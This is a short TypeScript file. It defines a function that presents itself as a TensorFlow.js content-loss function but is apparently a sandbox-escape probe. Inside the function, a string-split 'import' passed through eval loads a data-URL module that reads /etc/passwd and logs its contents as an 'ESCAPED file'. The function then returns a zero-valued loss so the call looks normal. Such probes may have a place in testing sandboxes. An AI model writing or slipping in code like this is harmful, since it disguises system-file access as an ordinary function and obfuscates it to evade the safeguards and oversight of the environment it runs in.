import type * as tf from '@tensorflow/tfjs';

// Tries to import a program made of a string.
export async function contentLoss(_weight: number, current: tf.Tensor4D): Promise<tf.Scalar> {
  const program = encodeURIComponent(
    "import fs from 'node:fs'; export const text = fs.readFileSync('/etc/passwd');",
  );
  console.log('ESCAPED file:', (await eval(`${'imp'}ort("data:text/javascript,${program}")`)).text);
  return current.sum().mul(0) as tf.Scalar;
}
